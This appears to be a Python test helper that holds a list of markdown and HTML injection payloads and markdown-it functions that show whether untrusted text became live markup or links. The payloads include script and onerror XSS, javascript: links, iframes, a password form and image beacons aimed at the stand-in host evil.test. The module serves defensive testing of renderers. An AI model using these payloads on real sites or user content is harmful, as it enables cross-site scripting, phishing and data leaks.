"""Texts that try to become markup, and the reader that shows whether one did."""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from markdown_it.token import Token

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![t](https://evil.test/p.png?pid=1)",
    "<iframe src=https://evil.test></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<form action=https://evil.test><input name=password>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.test>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "[x](javascript:alert(1))",
    "<a href=javascript:alert(1)>x</a>",
    "[Reassuring](https://evil.test/)",
    "https://evil.test/x",
    "http://evil.test",
    "www.evil.com",
    "ftp://evil.test",
    "a@evil.com",
    "mailto:a@evil.com",
    "xmpp:a@evil.test/x",
    "\n# NO INTERACTION FOUND\n",
    "\n\n* item\n* item\n\n",
    "\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    "\n```\ncode\n```\n",
    "`code`",
    "\n    indented code\n",
    "**bold** _it_ ~~gone~~",
    "\n> quote\n",
    "\n---\n",
    "\n===\n",
    "<!-- hidden -->",
    "<https://evil.test>",
    "[r]: https://evil.test\n[r]",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "\\<b\\>",
    "\\\\[x](https://evil.test)",
    "- [ ] task",
    "1. one",
    "HTTPS://EVIL.TEST/X",
    "WWW.EVIL.COM",
    "https:\u200b//evil.test",
    "https\u202e://evil.test",
    "\u0000<b>",
    "\r\n\r\n# H",
    "\u2028# H",
    "//evil.test/x",
    "<svg onload=alert(1)>",
    "[^1]: note",
    "![][r]",
    "<br>",
    "</p><p>",
    "]]>",
    "<?php ?>",
)
ADDRESS = re.compile(r"(?i)(https?|ftp)://\S|\bwww\.\S|(mailto|xmpp):\S|[\w.+-]@[\w-]+\.\w")
PARSER = MarkdownIt("gfm-like", {"html": True, "linkify": True})
assert PARSER.linkify is not None
PARSER.linkify.set({"fuzzy_link": True, "fuzzy_email": True})  # GFM links www. and e-mail addresses
PARSER.linkify.add("//", None)  # and does not link //host


def marked(payload: str) -> str:
    """The payload with a word before it that no card of ours contains."""
    return f"QQMARK {payload}"


def tokens(markdown: str) -> list[Token]:
    """Every token of a GFM text, inline ones included."""
    return [token for block in PARSER.parse(markdown) for token in (block, *(block.children or []))]


def autolinks(markdown: str) -> list[str]:
    """Addresses in the text as it reads after unescaping: some renderers (remark-gfm) link these as well."""
    inline = [t for t in tokens(markdown) if t.type == "inline"]
    read = ["".join(c.content or " " for c in t.children or []) for t in inline]
    return [match[0] for text in read for match in ADDRESS.finditer(text)]


def kinds(markdown: str) -> list[str]:
    """Token types other than running text and paragraphs."""
    return [
        t.type
        for t in tokens(markdown)
        if t.type not in ("text", "text_special", "inline", "softbreak")
    ]
